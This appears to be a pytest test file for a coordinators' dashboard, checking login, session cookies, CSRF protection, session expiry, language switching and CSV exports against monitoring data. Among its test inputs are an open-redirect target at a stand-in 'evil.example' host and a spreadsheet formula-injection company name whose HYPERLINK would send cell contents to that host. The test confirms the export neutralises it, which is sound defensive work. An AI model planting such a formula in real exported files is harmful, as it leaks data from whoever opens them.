"""The coordinators' dashboard over HTTP: log-in, sessions, CSRF, and figures equal to the monitoring JSON."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from advisor_sync.server.core.config import Settings
from advisor_sync.server.core.db import make_engine
from advisor_sync.server.main import create_app
from advisor_sync.server.models import DashboardSession, User
from sqlalchemy import update

from advisor_app.dbkit.types import utcnow

from .dashboard import Dashboard, csrf_of
from .live import PASSWORD, Api, Database, LiveServer
from .records import change, company, demo_changes, pull_all, pushed, scan

PAGES = ("/dashboard/", "/dashboard/sectors", "/dashboard/advisors", "/dashboard/companies", "/dashboard/effect")


@pytest.fixture
def coordinator(server: LiveServer) -> Dashboard:
    dashboard = Dashboard(server.url)
    assert dashboard.log_in("carol").status_code == 303
    return dashboard


@pytest.fixture
def programme(tmp_path: Path, alice: Api, bob: Api) -> None:
    for api, changes in (
        (alice, demo_changes(tmp_path / "alice", 40, seed=3)),
        (bob, demo_changes(tmp_path / "bob", 30, seed=4)),
    ):
        for start in range(0, len(changes), 200):
            assert {r["status"] for r in pushed(api, *changes[start : start + 200])} == {"accepted"}


def test_a_coordinator_logs_in_and_gets_an_http_only_lax_session_cookie(server: LiveServer) -> None:
    dashboard = Dashboard(server.url)
    response = dashboard.log_in("Carol")
    assert response.status_code == 303
    assert response.headers["location"] == "/dashboard/"
    cookie = response.headers["set-cookie"]
    assert "basisscan_dashboard=" in cookie
    assert "HttpOnly" in cookie
    assert "SameSite=lax" in cookie
    assert "Path=/dashboard" in cookie
    assert "Secure" not in cookie, "plain HTTP on loopback: a Secure cookie would never come back"
    page = dashboard.get("/dashboard/")
    assert page.status_code == 200
    assert "Logged in as Carol" in page.text
    again = dashboard.get("/dashboard/login?next=/dashboard/effect", allow_redirects=False)
    assert (again.status_code, again.headers["location"]) == (303, "/dashboard/effect"), "no second log-in"


def test_pages_without_a_session_send_the_browser_to_the_login(server: LiveServer) -> None:
    response = Dashboard(server.url).get("/dashboard/sectors", allow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/dashboard/login?next=/dashboard/sectors"
    assert Dashboard(server.url).get("/dashboard/csv/scans.csv", allow_redirects=False).status_code == 303


def test_an_advisor_gets_a_plain_no_access_page_and_no_session(server: LiveServer) -> None:
    dashboard = Dashboard(server.url)
    response = dashboard.log_in("alice")
    assert response.status_code == 403
    assert "No access" in response.text
    assert "basisscan_dashboard=" not in response.headers.get("set-cookie", "")
    assert dashboard.get("/dashboard/", allow_redirects=False).status_code == 303


def test_a_wrong_password_is_refused_and_counts_towards_the_api_limit(server: LiveServer, api: Api) -> None:
    dashboard = Dashboard(server.url)
    for _ in range(server.settings.login_max_failures):
        response = dashboard.log_in("carol", "not the password")
        assert response.status_code == 401
        assert "The username or password is not correct" in response.text
    assert dashboard.log_in("carol").status_code == 429, "the limit holds on the dashboard too"
    refused = api.post("/auth/login", json={"username": "carol", "password": "correct horse battery"})
    assert refused.status_code == 429, "one limit for both doors"


def test_a_login_post_without_the_form_token_is_refused(server: LiveServer) -> None:
    dashboard = Dashboard(server.url)
    dashboard.get("/dashboard/login")
    response = dashboard.post(
        "/dashboard/login", {"username": "carol", "password": "correct horse battery"}, allow_redirects=False
    )
    assert response.status_code == 403
    assert "basisscan_dashboard=" not in response.headers.get("set-cookie", "")


def test_log_out_needs_the_session_token_and_then_ends_the_session(coordinator: Dashboard) -> None:
    refused = coordinator.post("/dashboard/logout", {}, allow_redirects=False)
    assert refused.status_code == 403
    assert "Form expired" in refused.text
    forged = coordinator.post("/dashboard/logout", {"csrf_token": "x" * 43}, allow_redirects=False)
    assert forged.status_code == 403
    assert coordinator.get("/dashboard/", allow_redirects=False).status_code == 200, "a refused form changes nothing"
    token = csrf_of(coordinator.get("/dashboard/").text)
    cookie = coordinator.http.cookies["basisscan_dashboard"]
    assert coordinator.post("/dashboard/logout", {"csrf_token": token}, allow_redirects=False).status_code == 303
    stolen = Dashboard(coordinator.base_url)
    stolen.http.cookies.set("basisscan_dashboard", cookie, path="/dashboard")
    assert stolen.get("/dashboard/", allow_redirects=False).status_code == 303, "the old cookie opens nothing"


def test_an_idle_session_expires(coordinator: Dashboard, database: Database) -> None:
    engine = make_engine(database.url)
    with engine.begin() as connection:
        connection.execute(update(DashboardSession).values(expires_at=utcnow() - timedelta(seconds=1)))
    engine.dispose()
    assert coordinator.get("/dashboard/", allow_redirects=False).status_code == 303


def test_a_busy_session_still_ends_twelve_hours_after_log_in(coordinator: Dashboard, database: Database) -> None:
    engine = make_engine(database.url)
    with engine.begin() as connection:
        connection.execute(update(DashboardSession).values(created_at=utcnow() - timedelta(hours=12, seconds=1)))
    engine.dispose()
    assert coordinator.get("/dashboard/", allow_redirects=False).status_code == 303, "recent use does not extend it"


@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_page_renders_in_both_languages(programme: None, server: LiveServer, language: str) -> None:
    dashboard = Dashboard(server.url, language)
    assert dashboard.log_in("root").status_code == 303, "administrators may use the dashboard too"
    for path in PAGES:
        page = dashboard.get(path)
        assert page.status_code == 200, (path, page.text[:500])
        assert f'<html lang="{language}">' in page.text
    assert ("Afgeronde scans" in dashboard.get("/dashboard/").text) == (language == "nl")


def test_the_language_switch_is_remembered(server: LiveServer) -> None:
    dashboard = Dashboard(server.url, "en")
    dashboard.log_in("carol")
    dashboard.get("/dashboard/language/nl?next=/dashboard/sectors")
    assert '<html lang="nl">' in dashboard.get("/dashboard/").text
    assert (
        dashboard.get("/dashboard/language/en?next=https://evil.example", allow_redirects=False).headers["location"]
        == "/dashboard/"
    )


def number(html: str, element_id: str) -> int:
    found = re.search(rf'id="{element_id}"[^>]*>([^<]+)<', html)
    assert found, element_id
    return int(re.sub(r"[^0-9]", "", found.group(1)))


def test_programme_figures_and_their_csv_rows_equal_the_monitoring_json(
    programme: None, coordinator: Dashboard, carol: Api
) -> None:
    figures: dict[str, Any] = carol.get("/monitoring").json()
    page = coordinator.get("/dashboard/").text
    assert number(page, "scans-completed") == figures["scans"]["completed"]
    assert number(page, "scans-drafts") == figures["scans"]["drafts"]
    assert number(page, "trajectories") == figures["implementation"]["trajectories"]
    assert number(page, "committed") == figures["vouchers"]["committed_cents"]
    for row in figures["vouchers"]["by_status"]:
        assert number(page, f"vouchers-{row['status']}") == row["count"]
        rows = coordinator.csv(f"/dashboard/csv/vouchers.csv?status={row['status']}")
        assert len(rows) == row["count"]
        assert round(sum(float(r["amount_eur"]) for r in rows) * 100) == row["amount_cents"]
    committed = coordinator.csv("/dashboard/csv/vouchers.csv?status=committed")
    assert round(sum(float(r["amount_eur"]) for r in committed) * 100) == figures["vouchers"]["committed_cents"]
    assert len(coordinator.csv("/dashboard/csv/scans.csv")) == figures["scans"]["completed"]
    assert len(coordinator.csv("/dashboard/csv/drafts.csv")) == figures["scans"]["drafts"]
    for row in figures["scans"]["by_month"]:
        assert len(coordinator.csv(f"/dashboard/csv/scans.csv?month={row['month']}")) == row["completed"]
    for row in figures["scans"]["by_sector"]:
        assert len(coordinator.csv(f"/dashboard/csv/scans.csv?sector={row['key']}")) == row["completed"]
    for row in figures["scans"]["by_advisor"]:
        assert len(coordinator.csv(f"/dashboard/csv/scans.csv?advisor={row['key']}")) == row["completed"]
        assert len(coordinator.csv(f"/dashboard/csv/drafts.csv?advisor={row['key']}")) == row["drafts"]
    for step in figures["implementation"]["funnel"]:
        assert len(coordinator.csv(f"/dashboard/csv/funnel.csv?step={step['step']}")) == step["companies"]
    for status, count in figures["implementation"]["actions_by_status"].items():
        assert len(coordinator.csv(f"/dashboard/csv/actions.csv?status={status}")) == count
    cohorts = carol.get("/monitoring/funnel").json()
    for step in figures["implementation"]["funnel"]:
        in_months = sum(month["companies"][step["step"]] for month in cohorts["months"])
        assert in_months + cohorts["without_scan"][step["step"]] == step["companies"], "every company once, in its month"
    month = cohorts["months"][0]
    for key, count in month["companies"].items():
        assert len(coordinator.csv(f"/dashboard/csv/funnel.csv?step={key}&month={month['month']}")) == count
    assert [m["companies"]["scanned"] for m in cohorts["months"]] == [
        len({r["company_id"] for r in coordinator.csv("/dashboard/csv/funnel.csv?step=scanned&month=" + m["month"])})
        for m in cohorts["months"]
    ]


def test_sector_and_advisor_figures_agree_with_monitoring_and_their_rows(
    programme: None, coordinator: Dashboard, carol: Api
) -> None:
    monitoring = carol.get("/monitoring").json()
    sectors = carol.get("/monitoring/sectors").json()
    completed = {row["key"]: row["completed"] for row in monitoring["scans"]["by_sector"]}
    assert {row["key"]: row["completed"] for row in sectors["sectors"]} == completed
    assert sectors["programme"]["completed"] == monitoring["scans"]["completed"]
    benchmarks = {g["key"]: g for g in pull_all(carol)[1]["benchmarks"][0]["groups"]}
    for row in sectors["sectors"]:
        assert len(coordinator.csv(f"/dashboard/csv/scans.csv?sector={row['key']}&latest=true")) == row["n"]
        assert sum(row["stages"].values()) == sum(row["adopters"].values()) == row["n"]
        for stage, count in row["stages"].items():
            assert len(coordinator.csv(f"/dashboard/csv/scans.csv?sector={row['key']}&latest=true&stage={stage}")) == count
        for adopter, count in row["adopters"].items():
            assert len(coordinator.csv(f"/dashboard/csv/scans.csv?sector={row['key']}&latest=true&adopter={adopter}")) == count
        if row["n"]:
            group = benchmarks[row["key"]]
            assert row["n"] == group["n"], "the sector's n is the benchmark's n the devices get"
            for dimension in row["dimensions"]:
                assert dimension["mean"] == pytest.approx((group["means"][dimension["dimension_id"]] - 1) * 25)
    programme_row = sectors["programme"]
    assert sum(row["n"] for row in sectors["sectors"]) == programme_row["n"]
    page = coordinator.get("/dashboard/sectors").text
    assert f"({programme_row['n']})" in page
    advisors = carol.get("/monitoring/advisors").json()["advisors"]
    by_advisor = {row["key"]: (row["completed"], row["drafts"]) for row in monitoring["scans"]["by_advisor"]}
    assert {row["username"]: (row["completed"], row["drafts"]) for row in advisors} == by_advisor
    for row in advisors:
        assert (
            len(coordinator.csv(f"/dashboard/csv/vouchers.csv?advisor={row['username']}&status=committed"))
            == row["vouchers_approved"]
        )
        assert len(coordinator.csv(f"/dashboard/csv/companies.csv?advisor={row['username']}")) == row["companies"]
        assert len(coordinator.csv(f"/dashboard/csv/plans.csv?advisor={row['username']}")) == row["plans"]


def test_a_company_is_found_and_shows_its_records_and_history(programme: None, coordinator: Dashboard) -> None:
    listing = coordinator.get("/dashboard/companies", params={"q": "bouwbedrijf"})
    assert listing.status_code == 200
    link = re.search(r'href="(/dashboard/companies/[0-9a-f-]+)">([^<]+)<', listing.text)
    assert link, listing.text[:2000]
    detail = coordinator.get(link.group(1))
    assert detail.status_code == 200
    assert link.group(2) in detail.text
    assert "created (company)" in detail.text, "the history comes from the audit log"
    assert coordinator.get("/dashboard/companies/00000000-0000-4000-8000-000000000000").status_code == 404
    assert coordinator.get("/dashboard/companies/not-an-id").status_code == 404


def test_a_company_name_cannot_run_as_a_formula_in_the_csv(alice: Api, coordinator: Dashboard) -> None:
    company_id = uuid.uuid4()
    name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    pushed(
        alice,
        change("company", company_id, company(name=name, kvk="12345678")),
        change("scan", uuid.uuid4(), scan(company_id, completed=True)),
    )
    (row,) = coordinator.csv("/dashboard/csv/scans.csv")
    assert row["company"] == "'" + name


def test_behind_tls_the_session_cookie_is_secure(database: Database) -> None:
    """The app as the TLS proxy hands it requests (scheme https), spoken to in-process."""
    app = create_app(Settings(database_url=database.url))

    async def log_in() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://basisscan.example.nl") as browser:
            form = await browser.get("/dashboard/login")
            return await browser.post(
                "/dashboard/login", data={"username": "carol", "password": PASSWORD, "csrf_token": csrf_of(form.text)}
            )

    # On a thread of its own: after the browser tests, Playwright's sync API keeps a loop running on this one.
    with ThreadPoolExecutor(max_workers=1) as thread:
        response = thread.submit(asyncio.run, log_in()).result()
    app.state.server.engine.dispose()
    assert response.status_code == 303
    assert "Secure" in response.headers["set-cookie"]


def test_a_mistyped_address_gets_an_html_page_and_the_stylesheet_is_served(server: LiveServer) -> None:
    dashboard = Dashboard(server.url)
    missing = dashboard.get("/dashboard/programme-typo")
    assert missing.status_code == 404
    assert missing.headers["content-type"].startswith("text/html")
    assert "Not found" in missing.text
    assert dashboard.get("/dashboard/static/dashboard.css").status_code == 200


def test_a_session_whose_user_became_an_advisor_sees_no_more(coordinator: Dashboard, database: Database) -> None:
    engine = make_engine(database.url)
    with engine.begin() as connection:
        connection.execute(update(User).where(User.username == "carol").values(role="advisor"))
    engine.dispose()
    page = coordinator.get("/dashboard/", allow_redirects=False)
    assert page.status_code == 403
    assert "No access" in page.text


def test_the_programme_downloads_are_the_apis_exports(alice: Api, carol: Api, coordinator: Dashboard) -> None:
    company_id = uuid.uuid4()
    pushed(alice, change("company", company_id, company()), change("scan", uuid.uuid4(), scan(company_id, completed=True)))
    for page, api in (("summary.csv", "/monitoring/export.csv"), ("evaluation.csv", "/monitoring/scans.csv")):
        mine = coordinator.csv(f"/dashboard/csv/{page}")
        theirs = list(csv.DictReader(io.StringIO(carol.get(api).content.decode("utf-8-sig")), delimiter=","))  # both English
        assert mine == theirs
        assert mine
